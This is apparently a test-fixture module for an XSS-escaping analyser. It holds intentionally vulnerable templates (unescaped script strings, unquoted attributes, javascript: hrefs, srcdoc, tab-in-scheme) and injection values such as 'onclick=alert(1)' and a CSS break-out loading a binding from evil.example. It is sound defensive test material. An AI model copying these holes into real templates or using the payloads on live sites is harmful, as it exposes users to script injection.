"""Shared fixture corpus: end-to-end template cases and context snippets.

Template cases carry the expected verdict per sink.  Snippet cases place
a token (the @T@ marker) directly in markup and carry the exact context
sequence the model browser must resolve.
"""

from __future__ import annotations

import base64
from dataclasses import dataclass
from typing import Callable, Union

from ctxcheck.annotations import SinkRegistry
from ctxcheck.template import parse_template, render


@dataclass(frozen=True)
class TemplateCase:
    name: str
    template: str
    env: dict
    # sink id -> (sufficient, pattern name or None, context names)
    expected: dict
    # headline pattern of the case's focal flaw, if any
    focal_sink: str | None = None
    focal_pattern: str | None = None


FLAWED_SCRIPT_STRING = TemplateCase(
    name="flawed-script-string",
    template=(
        '<p id="unique"></p>\n'
        "<script>\n"
        "  var par, query;\n"
        '  par = document.getElementById ("unique");\n'
        '  query = "{{request.POST.query}}";\n'
        "  par.innerHTML = query;\n"
        "</script>\n"
    ),
    env={"request": {"POST": {"query": 'red "roses'}}},
    expected={
        "template:0": (False, "HtmlInJsString", ("HtmlScriptData", "JsStringDq")),
    },
    focal_sink="template:0",
    focal_pattern="HtmlInJsString",
)

CORRECTED_SCRIPT_STRING = TemplateCase(
    name="corrected-script-string",
    template=(
        '<p id="unique"></p>\n'
        "<script>\n"
        "  var par, query;\n"
        '  par = document.getElementById ("unique");\n'
        '  query = "{{request.POST.query | escape | escapejs}}";\n'
        "  par.innerHTML = query;\n"
        "</script>\n"
    ),
    env={"request": {"POST": {"query": 'red "roses'}}},
    expected={
        "template:0": (True, None, ("HtmlScriptData", "JsStringDq")),
    },
)

UNQUOTED_ATTR = TemplateCase(
    name="hidden-input-unquoted-attr",
    template='<input type="hidden" name="answer" value={{answer}} />\n',
    env={"answer": "xxx accesskey=X onclick=alert(1)"},
    expected={
        "template:0": (False, "HtmlInUnquotedAttr", ("HtmlAttrUnq",)),
    },
    focal_sink="template:0",
    focal_pattern="HtmlInUnquotedAttr",
)

JS_CODE_ARGUMENT = TemplateCase(
    name="comment-editor-js-code",
    template=(
        "<script>\n"
        "RB.PageManager.ready(function(page) {\n"
        'page.openCommentEditor("{{request.GET.reply_type}}",\n'
        "    {{request.GET.reply_id}});\n"
        "});\n"
        "</script>\n"
    ),
    env={"request": {"GET": {"reply_type": "comment", "reply_id": 42}}},
    expected={
        "template:0": (False, "HtmlInJsString", ("HtmlScriptData", "JsStringDq")),
        "template:1": (False, "HtmlInJsCode", ("HtmlScriptData", "JsCode")),
    },
    focal_sink="template:1",
    focal_pattern="HtmlInJsCode",
)

JS_STRING_CONFIG = TemplateCase(
    name="config-js-string",
    template=(
        "<script>\n"
        "CMS.config = {\n"
        "    'request': {\n"
        "        'language':'{{request.GET.language}}',\n"
        "    },\n"
        "};\n"
        "</script>\n"
    ),
    env={"request": {"GET": {"language": "en-us"}}},
    expected={
        "template:0": (False, "HtmlInJsString", ("HtmlScriptData", "JsStringSq")),
    },
    focal_sink="template:0",
    focal_pattern="HtmlInJsString",
)

CSS_COLOR_VALUE = TemplateCase(
    name="list-item-css-color",
    template='<li style="background-color: #{{ u.device.device_role.color }}">\n',
    env={"u": {"device": {"device_role": {
        "color": "012345; -moz-binding: url(http://evil.example/x.xml#a)"}}}},
    expected={
        "template:0": (False, "HtmlInCssValue", ("HtmlAttrDq", "CssDeclValue")),
    },
    focal_sink="template:0",
    focal_pattern="HtmlInCssValue",
)

HREF_URI = TemplateCase(
    name="package-link-href",
    template='<p><a href="{{ package.pypi_url }}">{{ package.pypi_url }}</a></p>\n',
    env={"package": {"pypi_url": "javascript:alert(1)"}},
    expected={
        "template:0": (False, "HtmlInUri", ("HtmlAttrDq", "Uri")),
        "template:1": (True, None, ("HtmlText",)),
    },
    focal_sink="template:0",
    focal_pattern="HtmlInUri",
)

# An SVG link navigates to its xlink:href, javascript: URLs included.
SVG_XLINK_HREF = TemplateCase(
    name="svg-link-xlink-href",
    template=('<svg><a xlink:href="{{ link.url }}"><text>{{ link.title }}</text>'
              "</a></svg>\n"),
    env={"link": {"url": "javascript:alert(1)", "title": "Home"}},
    expected={
        "template:0": (False, "HtmlInUri", ("HtmlAttrDq", "Uri")),
        "template:1": (True, None, ("HtmlText",)),
    },
    focal_sink="template:0",
    focal_pattern="HtmlInUri",
)

SCRIPT_SRC_URI = TemplateCase(
    name="script-source-uri",
    template='<script src="{{ assets.tracker_js }}"></script>\n',
    env={"assets": {"tracker_js": "https://cdn.example/track.js"}},
    expected={
        "template:0": (False, "HtmlInUri", ("HtmlAttrDq", "UriScriptSrc")),
    },
    focal_sink="template:0",
    focal_pattern="HtmlInUri",
)

# The URL parser removes the tab, so the link is a javascript: URL and
# the value lands in a JavaScript string that urlencode does not guard.
TAB_IN_SCHEME = TemplateCase(
    name="tab-in-javascript-scheme",
    template=("<a href=\"java&#x09;script:show('{{ item.slug | urlencode }}')\">"
              "{{ item.title }}</a>\n"),
    env={"item": {"slug": "a-b", "title": "Item"}},
    expected={
        "template:0": (False, "HtmlInJsString",
                       ("HtmlAttrDq", "Uri", "JsStringSq")),
        "template:1": (True, None, ("HtmlText",)),
    },
    focal_sink="template:0",
    focal_pattern="HtmlInJsString",
)

# srcdoc holds a document whose entities decode once more, so the
# escaped quote closes the script's string.
SRCDOC_SCRIPT = TemplateCase(
    name="srcdoc-script-string",
    template=("<iframe srcdoc=\"<script>var s='{{ user.name }}'</script>\">"
              "</iframe>\n"),
    env={"user": {"name": "O'Brien"}},
    expected={
        "template:0": (False, "HtmlInJsString",
                       ("HtmlAttrDq", "HtmlScriptData", "JsStringSq")),
    },
    focal_sink="template:0",
    focal_pattern="HtmlInJsString",
)

# In an attribute value, "&quot" right before a letter stays as
# written, and before anything else reads as '"'.  The token starts with
# a letter, so the value is read both ways and lands in code and in a
# string: here its escaped form starts with a letter, so the page puts
# it in code, not in the string its author meant to open.
LEGACY_REFERENCE_CODE = TemplateCase(
    name="legacy-reference-js-code",
    template=('<a href="javascript:f(&quot{{ v | escapejs | urlencode | escape }}'
              '&quot)">go</a>\n'),
    env={"v": "alert(1)"},
    expected={
        "template:0": [
            (False, "HtmlInJsCode", ("HtmlAttrDq", "Uri", "JsCode")),
            (True, None, ("HtmlAttrDq", "Uri", "JsStringDq"))],
    },
    focal_sink="template:0",
    focal_pattern="HtmlInJsCode",
)

# The other way round: the escaped value starts with "%", so '&quot' before
# it closes the string and the value lands in code.
LEGACY_REFERENCE_CLOSES_STRING = TemplateCase(
    name="legacy-reference-closes-string",
    template=('<a href="javascript:f(&quot;a&quot'
              '{{ v | escapejs | urlencode | escape }}&quot;)">go</a>\n'),
    env={"v": "+alert(1)+"},
    expected={
        "template:0": [
            (True, None, ("HtmlAttrDq", "Uri", "JsStringDq")),
            (False, "HtmlInJsCode", ("HtmlAttrDq", "Uri", "JsCode"))],
    },
    focal_sink="template:0",
    focal_pattern="HtmlInJsCode",
)

SAFE_FILTER_BODY = TemplateCase(
    name="safe-filter-body",
    template="<div>{{ content.body | safe }}</div>\n",
    env={"content": {"body": "<b>hello</b>"}},
    expected={
        "template:0": (False, "NoSanitization", ("HtmlText",)),
    },
    focal_sink="template:0",
    focal_pattern="NoSanitization",
)

ALL_CORRECT_SHOP = TemplateCase(
    name="all-correct-shop",
    template=(
        "<h1>{{ page.title }}</h1>\n"
        '<a href="/download?file={{request.GET.file | urlencode}}">'
        "{{request.GET.file}}</a>\n"
        '<script>var msg = "{{request.GET.message | escape | escapejs}}";</script>\n'
    ),
    env={
        "page": {"title": "Storefront"},
        "request": {"GET": {"file": "report 2024.pdf", "message": 'hi "there"'}},
    },
    expected={
        "template:0": (True, None, ("HtmlText",)),
        "template:1": (True, None, ("HtmlAttrDq", "Uri")),
        "template:2": (True, None, ("HtmlText",)),
        "template:3": (True, None, ("HtmlScriptData", "JsStringDq")),
    },
)

TEMPLATE_CASES = [
    FLAWED_SCRIPT_STRING,
    CORRECTED_SCRIPT_STRING,
    UNQUOTED_ATTR,
    JS_CODE_ARGUMENT,
    JS_STRING_CONFIG,
    CSS_COLOR_VALUE,
    HREF_URI,
    SCRIPT_SRC_URI,
    TAB_IN_SCHEME,
    SRCDOC_SCRIPT,
    SVG_XLINK_HREF,
    LEGACY_REFERENCE_CODE,
    LEGACY_REFERENCE_CLOSES_STRING,
    SAFE_FILTER_BODY,
    ALL_CORRECT_SHOP,
]

# The six mismatch fixtures with their headline classifications.
BUG_PATTERN_CASES = [
    UNQUOTED_ATTR,
    JS_CODE_ARGUMENT,
    JS_STRING_CONFIG,
    CSS_COLOR_VALUE,
    HREF_URI,
    SCRIPT_SRC_URI,
]


def render_case(case: TemplateCase, seed: int = 0, **kwargs):
    template = parse_template(case.template)
    return render(template, case.env, seed=seed, **kwargs)


@dataclass(frozen=True)
class SnippetCase:
    name: str
    doc: Union[str, Callable[[str], str]]
    expected: tuple  # context names, outermost first

    def build(self, token: str) -> str:
        if callable(self.doc):
            return self.doc(token)
        return self.doc.replace("@T@", token)


def _base64_data_doc(token: str) -> str:
    payload = base64.b64encode(f"<i>{token}</i>".encode()).decode()
    return f'<iframe src="data:text/html;base64,{payload}">'


def _data_depth_two_doc(token: str) -> str:
    inner = f"<i>{token}</i>"
    middle = f'<iframe src="data:text/html,{inner}">'
    outer_value = "data:text/html," + middle.replace('"', "&quot;")
    return f'<iframe src="{outer_value}">'


SNIPPETS = [
    SnippetCase("text", "<p>@T@</p>", ("HtmlText",)),
    SnippetCase("bare-text", "before @T@ after", ("HtmlText",)),
    SnippetCase("comment", "<!-- @T@ -->", ("HtmlComment",)),
    # "<!-->" and "<!--->" are empty comments, and "--!>" ends one.
    SnippetCase("empty-comment", "<!-->@T@-->", ("HtmlText",)),
    SnippetCase("empty-dash-comment", "<!--->@T@-->", ("HtmlText",)),
    SnippetCase("comment-ended-by-bang",
                "<!-- c --!><script>var s='@T@';</script>-->",
                ("HtmlScriptData", "JsStringSq")),
    SnippetCase("attr-dq", '<div title="@T@">', ("HtmlAttrDq",)),
    SnippetCase("attr-sq", "<div title='@T@'>", ("HtmlAttrSq",)),
    SnippetCase("attr-unquoted", "<input value=@T@ />", ("HtmlAttrUnq",)),
    SnippetCase("script-dq-string", '<script>var q = "@T@";</script>',
                ("HtmlScriptData", "JsStringDq")),
    SnippetCase("script-sq-string", "<script>var q = '@T@';</script>",
                ("HtmlScriptData", "JsStringSq")),
    SnippetCase("script-template-literal", "<script>var q = `@T@`;</script>",
                ("HtmlScriptData", "JsStringDq")),
    SnippetCase("script-code", "<script>f(@T@);</script>",
                ("HtmlScriptData", "JsCode")),
    SnippetCase("script-line-comment", "<script>// @T@\ng();</script>",
                ("HtmlScriptData", "JsComment")),
    SnippetCase("script-block-comment", "<script>/* @T@ */</script>",
                ("HtmlScriptData", "JsComment")),
    SnippetCase("event-handler-sq-in-dq", "<div onclick=\"f('@T@')\">",
                ("HtmlAttrDq", "JsStringSq")),
    SnippetCase("event-handler-dq-in-sq", "<div onmouseover='x = \"@T@\"'>",
                ("HtmlAttrSq", "JsStringDq")),
    SnippetCase("style-element-value", "<style>p { color: @T@ }</style>",
                ("HtmlStyleData", "CssDeclValue")),
    SnippetCase("style-element-string",
                '<style>p::after { content: "@T@" }</style>',
                ("HtmlStyleData", "CssString")),
    SnippetCase("style-element-comment", "<style>/* @T@ */</style>",
                ("HtmlStyleData", "CssComment")),
    SnippetCase("style-attr-value", '<li style="background-color: #@T@">',
                ("HtmlAttrDq", "CssDeclValue")),
    SnippetCase("style-attr-url", '<div style="background: url(@T@)">',
                ("HtmlAttrDq", "Uri")),
    SnippetCase("style-attr-after-url-quote",
                "<b style=\"background: url('a' @T@)\">",
                ("HtmlAttrDq", "Unknown")),
    SnippetCase("style-element-after-url-quote",
                '<style>a{background:url("x"@T@)}</style>',
                ("HtmlStyleData", "Unknown")),
    SnippetCase("href", '<a href="@T@">x</a>', ("HtmlAttrDq", "Uri")),
    SnippetCase("href-query", '<a href="https://x.example/?q=@T@">',
                ("HtmlAttrDq", "Uri")),
    SnippetCase("img-src", '<img src="@T@">', ("HtmlAttrDq", "Uri")),
    SnippetCase("form-action", '<form action="@T@">', ("HtmlAttrDq", "Uri")),
    SnippetCase("svg-xlink-href", '<svg><a xlink:href="@T@">x</a></svg>',
                ("HtmlAttrDq", "Uri")),
    # The model has no namespaces, so it reads foreign content as HTML.
    # A browser does not: inside <svg>, <style> text is tokenized as
    # markup (tags read, references decoded) before it is styled, and
    # <title> is an HTML integration point, never RCDATA.  These rows pin
    # today's reading, so that a change to it is made on purpose.
    SnippetCase("svg-style-value", "<svg><style>p{color:@T@}</style></svg>",
                ("HtmlStyleData", "CssDeclValue")),
    SnippetCase("svg-title", "<svg><title>@T@</title></svg>", ("HtmlText",)),
    SnippetCase("script-src", '<script src="@T@"></script>',
                ("HtmlAttrDq", "UriScriptSrc")),
    SnippetCase("javascript-uri-string", "<a href=\"javascript:alert('@T@')\">",
                ("HtmlAttrDq", "Uri", "JsStringSq")),
    SnippetCase("javascript-uri-tab", "<a href=\"java&#x09;script:f('@T@')\">",
                ("HtmlAttrDq", "Uri", "JsStringSq")),
    SnippetCase("srcdoc-script-string",
                "<iframe srcdoc=\"<script>var s='@T@'</script>\">",
                ("HtmlAttrDq", "HtmlScriptData", "JsStringSq")),
    SnippetCase("javascript-uri-code", '<a href="javascript:@T@()">',
                ("HtmlAttrDq", "Uri", "JsCode")),
    SnippetCase("data-html-text", '<iframe src="data:text/html,<b>@T@</b>">',
                ("HtmlAttrDq", "Uri", "HtmlText")),
    SnippetCase("data-html-base64", _base64_data_doc,
                ("HtmlAttrDq", "Uri", "HtmlText")),
    SnippetCase("data-html-nested", _data_depth_two_doc,
                ("HtmlAttrDq", "Uri", "HtmlAttrDq", "Uri", "HtmlText")),
    SnippetCase("data-opaque-mediatype", '<a href="data:image/png,@T@">',
                ("HtmlAttrDq", "Uri")),
    SnippetCase("tag-name", "<@T@>", ("Unknown",)),
    SnippetCase("attr-name", "<p @T@=1>", ("Unknown",)),
    SnippetCase("declaration", "<!doctype @T@>", ("Unknown",)),
    SnippetCase("unterminated-attr", "<a href='@T@", ("Unknown",)),
]


def build_snippet(case: SnippetCase, seed: int = 0):
    """Materialize a snippet with a real token and matching registry."""
    registry = SinkRegistry(seed=seed)
    token = registry.register(frozenset({("src.value", ())}), f"snippet:{case.name}")
    return case.build(token), registry, token
